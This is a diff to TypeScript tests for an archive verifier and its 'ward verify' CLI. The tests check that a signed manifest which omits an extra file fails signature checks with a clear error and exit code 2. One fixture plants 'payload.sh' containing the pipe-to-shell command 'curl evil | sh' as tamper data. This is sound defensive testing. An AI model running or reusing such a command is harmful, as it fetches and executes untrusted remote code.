@@ -29,7 +29,10 @@ describe('runpack readers refuse what the manifest does not account for', () => 
     const bytes = tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('curl evil | sh\n') }]);
     const result = verifyRunpack(bytes, { keys, requireSignature: true });
     expect(result.undeclared_files).toEqual(['payload.sh']);
+    // The signature is cryptographically valid, but it does not vouch for an archive with more in it.
+    expect(result).toMatchObject({ signature_status: 'failed', signatures_valid: 1, signature_errors: ['signed manifest does not declare: payload.sh'] });
     expect(runpackVerified(result, true)).toBe(false);
+    expect(verifyRunpack(bytes).signature_status).toBe('skipped'); // no key: nothing to downgrade, still not ok
     expect(runpackVerified(result, false)).toBe(false);
     expect(errorOf(() => readRunpack(bytes))).toMatchObject({ code: 'ERR_RUNPACK_INVALID', message: 'undeclared runpack entries: payload.sh', exitCode: 2 });
   });
@@ -52,6 +55,7 @@ describe('runpack readers refuse what the manifest does not account for', () => 
     const result = verifyRunpack(bytes, { keys, requireSignature: true });
     expect(result.missing_files).toEqual(['intents.jsonl']);
     expect(result.undeclared_files).toEqual(['INTENTS.JSONL']);
+    expect(result.signature_status).toBe('failed');
     expect(runpackVerified(result, true)).toBe(false);
   });
 
@@ -129,6 +133,16 @@ describe('runpack readers refuse what the manifest does not account for', () => 
 });
 
 describe('ward verify / pack verify on crafted runpacks', () => {
+  it('says why in text mode too, with the signer’s key', async () => {
+    const cwd = workdir();
+    const path = join(cwd, 'undeclared.zip');
+    writeFileSync(path, tampered((e) => [...e, { name: 'payload.sh', data: Buffer.from('x') }]));
+    const text = await ward(['verify', path, '--public-key', publicKeyFile(cwd)], cwd);
+    expect(text.code).toBe(2);
+    expect(text.stdout).toContain('signature: signed manifest does not declare: payload.sh');
+    expect(text.stdout).toContain('signature status: failed');
+  });
+
   it('exits 2 and says why, with and without --require-signature', async () => {
     const cwd = workdir();
     const cases: [string, Buffer, string][] = [
@@ -139,11 +153,23 @@ describe('ward verify / pack verify on crafted runpacks', () => {
     for (const [name, bytes, why] of cases) {
       const path = join(cwd, name);
       writeFileSync(path, bytes);
-      for (const args of [['verify', path], ['verify', path, '--require-signature'], ['pack', 'verify', path]]) {
+      const key = ['--public-key', publicKeyFile(cwd)];
+      for (const args of [['verify', path], ['verify', path, '--require-signature', ...key], ['pack', 'verify', path, ...key]]) {
         const run = await ward([...args, '--json'], cwd);
         expect({ name, args, code: run.code, ok: run.json['ok'] }).toEqual({ name, args, code: 2, ok: false });
         expect(JSON.stringify(run.json)).toContain(why === 'undeclared' ? 'payload.sh' : why);
+        if (why === 'undeclared') {
+          // Without a key the signature is `skipped`; with the signer's key it is valid but does not cover payload.sh.
+          const status = args[0] === 'pack' ? run.json['verify']['signature_status'] : run.json['signature_status'];
+          expect(status).toBe(args.includes('--public-key') ? 'failed' : 'skipped');
+        }
       }
     }
   });
 });
+
+function publicKeyFile(dir: string): string {
+  const path = join(dir, 'signer_public.pem');
+  writeFileSync(path, TEST_KEY.publicKey.export({ type: 'spki', format: 'pem' }));
+  return path;
+}
